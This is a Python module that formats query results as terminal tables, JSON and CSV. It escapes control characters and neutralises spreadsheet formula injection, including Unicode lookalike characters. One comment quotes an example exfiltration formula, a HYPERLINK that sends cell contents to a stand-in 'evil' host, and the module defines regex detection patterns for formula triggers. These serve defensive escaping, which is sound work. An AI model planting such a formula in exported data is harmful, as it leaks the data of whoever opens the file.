"""Rendering rows for the terminal: aligned text tables, JSON and CSV."""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import re
import sys
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from typing import TYPE_CHECKING, Any

import click

from miner.urls import escape_controls, json_escape_controls

if TYPE_CHECKING:
    from click._termui_impl import ProgressBar

# A cell is one line: tabs and line breaks become spaces, other controls and bidi characters are shown escaped
# (\x1b, \u202e), since a post, a title or a source's error is anyone's text (see escape_controls).
_AS_SPACE = re.compile("[\t\n\r\x0b\x0c\x85\u2028\u2029]")


def _char_width(ch: str) -> int:
    if unicodedata.combining(ch) or unicodedata.category(ch) in ("Mn", "Me", "Cf"):
        return 0
    return 2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1


def display_width(text: str) -> int:
    """Columns ``text`` takes in a terminal: a CJK character or an emoji takes two, a combining mark none. Counted
    as characters, a column of Japanese posts pushed every cell after it out of line with its header."""
    return len(text) if text.isascii() else sum(map(_char_width, text))


def blob_text(value: bytes) -> str:
    """A BLOB as a table or csv cell: its bytes in hex as an SQL literal (X'00ff'), as the sqlite3 shell quotes one.
    Written as Python's repr (b'\\x00'), it was neither the bytes nor a form another program reads."""
    return f"X'{value.hex()}'"


def _cell(value: Any, width: int | None) -> str:
    if isinstance(value, bytes):
        value = blob_text(value)
    text = escape_controls(_AS_SPACE.sub(" ", "" if value is None else str(value)))
    if width is not None and display_width(text) > width:
        cut, used = len(text), 0
        for i, ch in enumerate(text):
            used += _char_width(ch)
            if used > width - 1:  # the "…" takes the last column
                cut = i
                break
        text = text[:cut] + "…"
    return text


def one_line(value: Any) -> str:
    """``value`` whole on one line, as a table cell shows it (control and bidi characters escaped): for another
    party's text (a server's reply, a source's error) in a line of its own."""
    return _cell(value, None)


def table(columns: Sequence[str], rows: Sequence[Sequence[Any]], *, max_width: int | None = 60) -> str:
    """A plain aligned table with a header rule; long cells are cut to ``max_width`` terminal columns."""
    cells = [[_cell(v, max_width) for v in row] for row in rows]
    widths = [display_width(c) for c in columns]
    for row in cells:
        for i, value in enumerate(row):
            widths[i] = max(widths[i], display_width(value))
    numeric = [all(isinstance(r[i], int | float) or r[i] is None for r in rows) and bool(rows)
               for i in range(len(columns))]

    def fmt(values: Sequence[str]) -> str:
        pads = [" " * (w - display_width(v)) for v, w in zip(values, widths, strict=True)]
        parts = [pad + v if num else v + pad for v, pad, num in zip(values, pads, numeric, strict=True)]
        return "  ".join(parts).rstrip()

    lines = [fmt(list(columns)), "  ".join("-" * w for w in widths)]
    lines.extend(fmt(row) for row in cells)
    return "\n".join(lines)


def render(columns: Sequence[str], rows: Sequence[Sequence[Any]], fmt: str) -> str:
    if fmt in STREAMED:
        return "".join(stream(columns, rows, fmt)).rstrip("\n")
    return table(columns, rows, max_width=None if fmt == "wide" else 60)


def _json_value(value: Any) -> Any:
    """An infinite REAL (SQLite's 1e999, a division's overflow) as null: json.dumps writes Infinity, which is no JSON
    and which jq and every strict parser refuse. SQLite has no NaN (it stores NULL). A BLOB as the object that
    sqlite-utils and Datasette write for one, {"$base64": true, "encoded": ...} (sqlite-utils insert reads it back):
    a string would be taken for text."""
    if isinstance(value, bytes):
        return {"$base64": True, "encoded": base64.b64encode(value).decode("ascii")}
    return None if isinstance(value, float) and not math.isfinite(value) else value


# Formats written row by row as the rows are read; a table needs every row first, for its column widths.
STREAMED = ("json", "csv")

# The most rows `miner query` shows as a table (table, wide): one is lined up from all its rows, so they are held in
# memory, and a statement without an end (a recursive CTE), or every post of a large store, grew the command until
# the box ran out of memory. The streamed formats write every row as they read it.
TABLE_ROWS = 10_000


# What makes a spreadsheet (Excel, LibreOffice Calc, Google Sheets) open a cell as a formula: =, +, - or @ first
# (after any spaces, which an import may trim), or a tab or carriage return first (OWASP's list). A post's text is a
# stranger's: =HYPERLINK("http://evil/?"&A1,"click") sent the sheet's cells away when the operator opened the csv.
# And the characters that Unicode's compatibility normalisation (NFKC) makes one of those: the full-width ＝ ＋ － ＠
# of Chinese and Japanese text, the small ﹦ ﹢ ﹣ ﹫, super- and subscript ⁼ ⁺ ₌ ₊, ⩵ (==), ⩶ (===) and Hebrew's
# alternative plus ﬩. A Chinese or Japanese input method types them, and a spreadsheet that folds them so as it reads
# a cell runs the same formula. LibreOffice 7.4 opening a csv was seen to take none of them for one (nor a "+", "-" or
# "@": only "="); Excel and Google Sheets were not checked. After a ' each is text wherever it is read, at the cost of
# a ' before a few texts. test_query_csv checks that this is all of NFKC's (computing it at import takes 0.5 s).
_LOOKALIKES = "\uff1d\ufe66\u207c\u208c\u2a75\u2a76\uff0b\ufe62\u207a\u208a\ufb29\uff0d\ufe63\uff20\ufe6b"
_FORMULA = re.compile(rf"[\t\r]|\s*[=+\-@{_LOOKALIKES}]")
# A number written as text (printf('%.2f', -1.5)) is read as that number, no formula: it stays as it is.
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
# What a formula's cell starts with but a space: most cells start with neither, and are let by without a match.
FORMULA_FIRST = frozenset("=+-@" + _LOOKALIKES)


def spreadsheet_cell(value: Any) -> Any:
    """``value`` with a ' before it where it is text a spreadsheet would take for a formula (the quote marks a cell as
    text); numbers, and text that is one, as they are."""
    if (isinstance(value, str) and value and (value[0] in FORMULA_FIRST or value[0].isspace())
            and _FORMULA.match(value) and not _NUMBER.fullmatch(value)):
        return "'" + value
    return value


def stream(columns: Sequence[str], rows: Iterable[Sequence[Any]], fmt: str, *, csv_raw: bool = False
           ) -> Iterator[str]:
    """``fmt`` (json or csv) in pieces of about 500 rows, each piece's lines ended; the same text as one dump. A csv
    cell a spreadsheet would take for a formula is written as text (spreadsheet_cell) unless ``csv_raw``."""
    if fmt == "json":
        yield "["
        count = 0
        for count, row in enumerate(rows, 1):
            # Escaped as JSON escapes it (the same string parsed): C1 controls and bidi overrides, which
            # ensure_ascii=False leaves raw, would reach a terminal reading the rows.
            item = json_escape_controls(json.dumps(dict(zip(columns, map(_json_value, row), strict=True)), indent=2,
                                                   default=str, ensure_ascii=False))
            yield ("\n" if count == 1 else ",\n") + "  " + item.replace("\n", "\n  ")
        yield "\n]\n" if count else "]\n"
        return
    buf = io.StringIO()
    # The writer quotes a cell holding a character of its line ending: with "\n" alone, a text's carriage return was
    # written bare, which a spreadsheet (and Python's csv reader) takes for the end of the row, and what followed it
    # began a row of its own. Each row's "\r\n" is written back as "\n".
    writer = csv.writer(buf, lineterminator="\r\n")

    def write(cells: Iterable[Any]) -> None:
        writer.writerow(cells)
        buf.seek(buf.tell() - 2)
        buf.write("\n")
        buf.truncate()

    write(columns)
    for i, row in enumerate(rows, 1):
        row = [blob_text(v) if isinstance(v, bytes) else v for v in row]
        write(row if csv_raw else map(spreadsheet_cell, row))
        if i % 500 == 0:
            yield buf.getvalue()
            buf.seek(0)
            buf.truncate()
    yield buf.getvalue()


def progress(length: int, label: str) -> ProgressBar[int]:
    """A progress bar on stderr, so stdout stays clean for the command's output."""
    return click.progressbar(length=length, label=label, file=sys.stderr)
